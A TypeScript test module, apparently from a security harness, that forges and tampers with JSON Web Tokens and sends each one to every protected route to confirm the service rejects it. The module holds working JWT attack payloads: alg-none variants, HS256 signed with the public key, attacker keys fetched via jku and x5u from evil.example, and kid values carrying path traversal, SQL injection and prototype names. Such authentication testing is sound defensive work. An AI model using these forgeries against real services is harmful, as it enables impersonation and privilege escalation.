import { createHmac, createPublicKey, generateKeyPairSync, sign as signBytes } from 'node:crypto'
import { isDestructive, sampleCall } from './document.ts'
import type { Attack } from './world.ts'

// S6: forged, altered and misused tokens on every route that needs somebody.
export const attack: Attack = async (world) => {
  const seller = await world.actor('seller')
  const anonymous = await world.actor('anonymous')
  const { body: keySet } = await world.call(anonymous, 'GET', '/auth/v1/.well-known/jwks.json')
  const signedIn = await world.fresh('seller')
  const tokens = forgeries(seller.token!, keySet.keys[0], signedIn.token!)
  const findings: string[] = []
  let tried = 0
  const guarded = world.operations.filter(({ access }) => access && access !== 'public')
  for (const operation of guarded) {
    const { path, body } = sampleCall(operation)
    for (const [name, token] of Object.entries(tokens)) {
      // In the short form each route meets a few of them, another few each time.
      if (world.short && !isDestructive(operation) && world.random() < 0.7) continue
      const { status, text } = await world.call({ ...anonymous, token }, operation.method, path, body)
      tried++
      if (status !== 401 && status !== 403) findings.push(`${operation.name} with ${name}: ${status} ${text.slice(0, 80)}`)
    }
  }
  return { tried, findings }
}

const b64 = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')

function forgeries(token: string, key: Record<string, string>, other: string): Record<string, string> {
  const [head, body, signature] = token.split('.') as [string, string, string]
  const header = JSON.parse(Buffer.from(head, 'base64url').toString())
  const claims = JSON.parse(Buffer.from(body, 'base64url').toString())
  const own = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const signed = (more: object, payload: object = claims) => {
    const input = `${b64({ ...header, ...more })}.${b64(payload)}`
    return `${input}.${signBytes('sha256', Buffer.from(input), { key: own.privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`
  }
  const hmac = (secret: string) => {
    const input = `${b64({ ...header, alg: 'HS256' })}.${body}`
    return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`
  }
  const altered = (change: object) => `${head}.${b64({ ...claims, ...change })}.${signature}`
  const pem = createPublicKey({ key, format: 'jwk' }).export({ type: 'spki', format: 'pem' }) as string
  return {
    'alg none': `${b64({ ...header, alg: 'none' })}.${body}.`,
    'alg nOnE and a signature': `${b64({ ...header, alg: 'nOnE' })}.${body}.${signature}`,
    'no signature': `${head}.${body}.`,
    'a signature of zeros': `${head}.${body}.${b64('\0'.repeat(64))}`,
    'the signature of another token': `${head}.${body}.${other.split('.')[2]}`,
    'HS256 by the public key': hmac(pem),
    'HS256 by nothing': hmac(''),
    'an own key under the real kid': signed({}),
    'an own key in jwk': signed({ jwk: own.publicKey.export({ format: 'jwk' }) }),
    'an own key by jku': signed({ kid: 'elsewhere', jku: 'https://evil.example/jwks.json' }),
    'an own key by x5u': signed({ kid: 'elsewhere', x5u: 'https://evil.example/cert.pem' }),
    'a kid that is a path': signed({ kid: '../../../../dev/null' }),
    'a kid that is SQL': signed({ kid: "x' or '1'='1" }),
    'a kid that is a prototype': signed({ kid: '__proto__' }),
    'another person': altered({ sub: crypto.randomUUID() }),
    'staff written in': altered({ app_metadata: { staff: true } }),
    'the service role written in': altered({ role: 'service_role' }),
    'a second factor written in': altered({ aal: 'aal2' }),
    'another audience': altered({ aud: 'elsewhere' }),
    'another issuer': altered({ iss: 'https://evil.example/auth/v1' }),
    'a time that has passed': altered({ exp: 1 }),
    'no token at all but words': 'not-a-token',
  }
}
